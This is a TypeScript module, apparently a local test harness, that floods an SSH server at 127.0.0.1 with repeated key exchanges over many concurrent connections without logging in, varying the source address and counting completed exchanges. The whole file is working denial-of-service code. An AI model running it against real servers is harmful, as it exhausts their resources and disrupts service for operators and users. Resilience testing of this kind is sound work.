import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { cheapInit, keysOfExchange, seal, unseal, type AttackedMethod, type Direction } from './cheap-exchange.ts';
import { string } from './ssh-strings.ts';

/** The result of an attack. */
export interface AttackOutcome {
  exchanges: number;
  connections: number;
}

/** The target, the source address and the method. */
export interface Attack {
  readonly port: number;
  readonly localAddress: string;
  readonly method: AttackedMethod;
  readonly connections: number;
  readonly seconds: number;
}

const banner = 'SSH-2.0-Attack';
const [disconnect, kexInit, newKeys, kexDhInit, kexDhReply] = [1, 20, 21, 30, 31];

/** Exchanges keys without logging in: repeatedly on each connection as long as it lasts, then on another one. */
export async function attack(options: Attack): Promise<AttackOutcome> {
  const outcome: AttackOutcome = { exchanges: 0, connections: 0 };
  const end = performance.now() + options.seconds * 1_000;
  const attacker = async (): Promise<void> => {
    while (performance.now() < end) {
      outcome.connections += 1;
      await exchangeUntilCut(options, end, () => (outcome.exchanges += 1));
    }
  };
  await Promise.all(Array.from({ length: options.connections }, attacker));
  return outcome;
}

async function exchangeUntilCut(
  { port, localAddress, method }: Attack,
  end: number,
  exchanged: () => void,
): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', localAddress, noDelay: true });
  socket.on('error', () => {});
  const timer = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()));
  void new AttackingConnection(socket, method, exchanged);
  await once(socket, 'close').catch(() => {});
  clearTimeout(timer);
}

/** A connection that begins an exchange as soon as the previous one is done. */
class AttackingConnection {
  readonly #socket: Socket;
  readonly #method: AttackedMethod;
  readonly #exchanged: () => void;
  #received: Buffer = Buffer.alloc(0);
  #theirBanner = '';
  #theirInit: Buffer | undefined;
  #ours: ReturnType<typeof cheapInit>;
  #sessionId: Buffer | undefined;
  #out: Direction | undefined;
  #in: Direction | undefined;
  #nextIn: Direction | undefined;

  constructor(socket: Socket, method: AttackedMethod, exchanged: () => void) {
    this.#socket = socket;
    this.#method = method;
    this.#exchanged = exchanged;
    this.#ours = cheapInit(method);
    socket.write(`${banner}\r\n`);
    socket.on('data', (chunk: Buffer) => this.#receive(chunk));
  }

  #receive(chunk: Buffer): void {
    this.#received = Buffer.concat([this.#received, chunk]);
    if (this.#theirBanner === '' && !this.#readBanner()) return;
    for (let packet = this.#next(); packet !== undefined; packet = this.#next()) {
      this.#received = packet.rest;
      this.#hear(packet.payload);
    }
  }

  #readBanner(): boolean {
    const lineEnd = this.#received.indexOf('\r\n');
    if (lineEnd === -1) return false;
    this.#theirBanner = this.#received.toString('latin1', 0, lineEnd);
    this.#received = this.#received.subarray(lineEnd + 2);
    if (!this.#theirBanner.startsWith('SSH-')) {
      this.#socket.destroy();
      return false;
    }
    this.#begin();
    return true;
  }

  #next() {
    return unseal(this.#received, this.#in);
  }

  #begin(): void {
    this.#ours = cheapInit(this.#method);
    this.#send(this.#ours.kexInit);
  }

  #hear(payload: Buffer): void {
    if (payload[0] === disconnect) this.#socket.destroy();
    if (payload[0] === kexInit) {
      this.#theirInit = Buffer.from(payload);
      this.#send(Buffer.concat([Buffer.of(kexDhInit), string(this.#ours.publicKey)]));
    } else if (payload[0] === kexDhReply) {
      this.#changeKeys(payload);
    } else if (payload[0] === newKeys) {
      this.#in = this.#nextIn;
      this.#begin();
    }
  }

  #changeKeys(reply: Buffer): void {
    if (this.#theirInit === undefined) return;
    const keys = keysOfExchange({
      method: this.#method,
      banners: [banner, this.#theirBanner],
      kexInits: [this.#ours.kexInit, this.#theirInit],
      reply,
      sessionId: this.#sessionId,
    });
    this.#sessionId = keys.sessionId;
    this.#send(Buffer.of(newKeys));
    this.#out = keys.out;
    this.#nextIn = keys.in;
    this.#exchanged();
  }

  #send(payload: Buffer): void {
    if (this.#socket.writable) this.#socket.write(seal(payload, this.#out));
  }
}
